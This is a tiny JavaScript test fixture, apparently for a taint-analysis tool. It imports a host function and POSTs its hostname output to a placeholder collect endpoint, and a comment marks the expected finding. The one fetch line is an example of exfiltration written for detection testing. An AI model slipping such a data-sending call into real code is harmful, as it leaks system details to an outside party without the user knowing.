// The default export is a function without a name.
import host, { fixed } from "./host.js";

console.log(fixed());
fetch("https://example.org/collect", { method: "POST", body: host() }); // $ finding[payload explicit hostname -> fetch.body] from hostname
